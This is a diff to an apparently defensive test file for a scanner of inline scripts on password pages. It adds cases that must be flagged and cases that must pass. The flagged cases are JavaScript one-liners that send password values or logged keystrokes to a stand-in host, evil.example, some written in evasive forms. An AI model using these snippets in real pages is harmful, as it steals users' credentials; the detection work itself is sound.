@@ -262,6 +262,23 @@ describe('scripts on pages that ask for a password', () => {
     `location.href = 'https://evil.example/?p=' + input.value`,
     `new Image().src = \`https://evil.example/?p=\${input.value}\``,
     `form.action = 'https://evil.example/x'; note(input.value)`,
+    `form.addEventListener('keydown', e => fetch('https://evil.example/k?' + e.key))`,
+    `let all = ''; form.onkeyup = e => { all += e.key; navigator.sendBeacon('https://evil.example/', all) }`,
+    `form.onkeypress = e => keys.push(e.which); fetch('https://evil.example/', { body: keys })`,
+    `form.oninput = ({target:{value}}) => fetch('https://evil.example/', { body: value })`,
+    `const { name, value } = input; fetch('https://evil.example/', { body: value })`,
+    `fields.forEach(({ value: v }) => fetch('https://evil.example/', { body: v }))`,
+    `fetch('https://evil.example/', { body: f['value'] })`,
+    `fetch(new Request('https://evil.example/x', { method: 'POST', body: input.value }))`,
+    `const r = new Request('https://evil.example/x', { body: input.value }); fetch(r)`,
+    `const u = new URL('https://evil.example/'); u.searchParams.set('p', input.value); fetch(u)`,
+    `fetch(new URL('/x?' + 1, 'https://evil.example'), { body: input.value })`,
+    `fetch(new URL('/x', 'https://evil.example'), { body: input.value })`,
+    `const base = 'https://evil.example'; fetch(new URL('/x', base), { body: input.value })`,
+    `window['fetch']('https://evil.example/x', { body: input.value })`,
+    `fetch?.('https://evil.example/x', { body: input.value })`,
+    `img.setAttribute('src', 'https://evil.example/?' + input.value)`,
+    `button.formAction = 'https://evil.example/'; note(input.value)`,
   ])
     test(`must not send it elsewhere: ${code}`, () => {
       assert.deepEqual(inline(code), ['error cloud_directory_login.html:14'])
@@ -274,6 +291,13 @@ describe('scripts on pages that ask for a password', () => {
     `help.href = 'https://www.example.com/help'; button.disabled = input.value === ''`,
     `location.href = 'https://www.example.com/help'; note(input.value)`,
     `fetch('https://status.example/now').then(show)`,
+    `document.onkeydown = e => { if (e.key === 'Escape') close() }; fetch('https://status.example/now')`,
+    `onkeydown = e => ['Enter', ' '].includes(e.key) && open(); fetch('https://status.example/now')`,
+    `onkeydown = e => { switch (e.key) { case 'Tab': next() } }; fetch('https://status.example/now')`,
+    `watch(input, { attributeFilter: ['value'] }); fetch('https://status.example/now')`,
+    `define(x, 'y', { value: 1 }); fetch('https://status.example/now')`,
+    `const help = new URL('https://www.example.com/help'); button.disabled = input.value === ''`,
+    `img.setAttribute('src', 'https://www.example.com/logo.png'); note(input.value)`,
     `// fetch('https://evil.example/x')\nnote(input.value)`,
   ])
     test(`may do other things: ${code}`, () => assert.deepEqual(inline(code), []))
